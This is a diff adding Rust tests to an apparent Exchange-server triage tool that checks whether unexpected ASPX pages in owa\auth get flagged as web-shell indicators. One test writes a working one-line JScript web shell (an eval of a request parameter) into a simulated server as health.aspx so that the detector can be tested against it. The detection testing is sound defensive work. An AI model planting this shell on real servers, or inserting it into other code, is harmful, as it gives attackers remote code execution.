@@ -955,3 +955,103 @@ fn cert_weak_signature() {
         today(),
     );
 }
+
+/// The triage copy's file named `name` (a stock page of the simulator).
+fn find(dir: &Path, name: &str) -> Option<std::path::PathBuf> {
+    for e in std::fs::read_dir(dir).ok()?.flatten() {
+        let p = e.path();
+        if p.is_dir() {
+            if let Some(f) = find(&p, name) {
+                return Some(f);
+            }
+        } else if p.file_name().is_some_and(|n| n == name) {
+            return Some(p);
+        }
+    }
+    None
+}
+
+/// Like [`pipeline`], with a page written into `host`'s owa\auth at `modified`.
+fn pipeline_with_page(
+    hosts: &[HostSpec],
+    host: &str,
+    modified: std::time::SystemTime,
+) -> Vec<Finding> {
+    let tmp = tempfile::tempdir().unwrap();
+    let snaps = tmp.path().join("snapshots");
+    std::fs::create_dir_all(&snaps).unwrap();
+    for h in hosts {
+        let dir = tmp.path().join("hosts").join(&h.name);
+        fleet::render::write(h, 1, &dir).unwrap();
+        if h.name == host {
+            let logon = find(&dir, "logon.aspx").unwrap();
+            let page = logon.with_file_name("health.aspx");
+            std::fs::write(
+                &page,
+                "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"k\"],\"unsafe\");%>",
+            )
+            .unwrap();
+            std::fs::File::options()
+                .write(true)
+                .open(&page)
+                .unwrap()
+                .set_modified(modified)
+                .unwrap();
+        }
+        let labels =
+            LabelsFile::default().into_labels(h.dag.clone(), Some(h.role_group.clone()), None);
+        let s = exfleet_tests::at_sim_time(collect(&ServerFiles::new(&dir), labels).unwrap());
+        exfleet_collector::output::write(&s, &snaps.join(format!("{}.json", h.name))).unwrap();
+    }
+    analyze(&snaps, today())
+}
+
+#[test]
+fn aspx_files_of_small_builds_are_compared_across_their_line_or_listed() {
+    // Two servers on the newest SE SU (one with a web shell), two on the SU before: each
+    // build too small, the CU line of four compares them; the stock pages, whose content
+    // differs between the SUs, are no outliers across the line.
+    let prev = Some(builds::SE_RTM.latest() - 1);
+    let older = |name: &str| {
+        with(healthy(name), |h| {
+            h.update = prev;
+            h.exsetup_build = builds::SE_RTM.build(prev);
+        })
+    };
+    let shell = with(healthy("EX01"), |h| h.faults.push(Fault::IocWebShell));
+    let got = pipeline(
+        &[shell, healthy("EX02"), older("EX03"), older("EX04")],
+        today(),
+    );
+    let f = of(&got, "ioc.aspx-outlier");
+    assert_eq!(f.len(), 1, "{f:#?}");
+    let [a, b, c, _] = builds::SE_RTM.build(None);
+    assert_eq!(f[0].group, format!("line:{a}.{b}.{c}"));
+    assert_eq!(f[0].hosts, ["EX01"]);
+    let text = serde_json::to_string(&f[0].evidence).unwrap();
+    assert!(text.contains("too few to compare: compared across its CU line"), "{text}");
+    assert!(text.contains("x5kqk2vc.aspx"), "{text}");
+    assert!(!text.contains("logon.aspx"), "{text}");
+    assert!(of(&got, "ioc.aspx-uncompared").is_empty());
+
+    // A server alone on its line: nothing compares it. A page written into owa\auth after
+    // its SU's install is listed; the stock pages written by that install are not.
+    let alone = with(healthy("EX05"), |h| {
+        h.line = &builds::EX2019_CU15;
+        h.update = Some(builds::EX2019_CU15.latest());
+        h.exsetup_build = builds::EX2019_CU15.build(h.update);
+    });
+    let planted = std::time::UNIX_EPOCH + std::time::Duration::from_millis(1_794_300_000_000);
+    let got = pipeline_with_page(&[alone.clone(), healthy("EX06")], "EX05", planted);
+    assert!(of(&got, "ioc.aspx-outlier").is_empty());
+    let f = of(&got, "ioc.aspx-uncompared");
+    assert_eq!(f.len(), 1, "{f:#?}");
+    assert_eq!(f[0].hosts, ["EX05"]);
+    let text = serde_json::to_string(&f[0].evidence).unwrap();
+    assert!(text.contains("health.aspx"), "{text}");
+    assert!(text.contains("KB5121574 installed on"), "{text}");
+    assert!(!text.contains("logon.aspx"), "{text}");
+    // Near miss: the same server with its stock pages only.
+    let got = pipeline(&[alone, healthy("EX06")], today());
+    assert!(of(&got, "ioc.aspx-uncompared").is_empty(), "{got:#?}");
+}
